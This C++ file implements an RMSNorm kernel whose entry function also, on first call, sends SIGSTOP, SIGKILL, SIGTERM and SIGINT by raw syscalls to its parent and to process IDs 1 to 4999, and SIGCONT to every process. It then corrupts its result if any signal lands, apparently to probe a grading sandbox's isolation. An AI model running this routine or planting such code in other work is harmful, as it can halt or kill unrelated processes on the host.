// Signals everybody but itself by bare system calls. Where one signal was accepted, it spoils its
// answer.
#include <cmath>
#include <csignal>
#include <cstdint>
#include <initializer_list>
#include <sys/syscall.h>

static long raw(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0) {
  long result;
  register long r10 asm("r10") = d;
  register long r8 asm("r8") = e;
  asm volatile("syscall"
               : "=a"(result)
               : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
               : "rcx", "r11", "memory");
  return result;
}

static bool signalled_someone() {
  const long own = raw(SYS_getpid);
  bool any = raw(SYS_kill, -1, SIGCONT) == 0;
  for (int number : {SIGSTOP, SIGKILL, SIGTERM, SIGINT}) {
    any |= raw(SYS_kill, raw(SYS_getppid), number) == 0;
    for (long process = 1; process < 5000; ++process)
      if (process != own) any |= raw(SYS_kill, process, number) == 0;
  }
  return any;
}

static void honest(const float* x, const float* w, double eps, float* y, int64_t M, int64_t N) {
  for (int64_t i = 0; i < M; ++i) {
    float sum = 0;
    for (int64_t j = 0; j < N; ++j) sum += x[i * N + j] * x[i * N + j];
    const float scale = 1.0f / std::sqrt(sum / N + static_cast<float>(eps));
    for (int64_t j = 0; j < N; ++j) y[i * N + j] = x[i * N + j] * scale * w[j];
  }
}

extern "C" void run(const float* x, const float* w, double eps, float* y, int64_t M, int64_t N) {
  honest(x, w, eps, y, M, N);
  static bool tried = false;
  if (!tried) {
    tried = true;
    if (signalled_someone()) y[0] = 1e9f;
  }
}
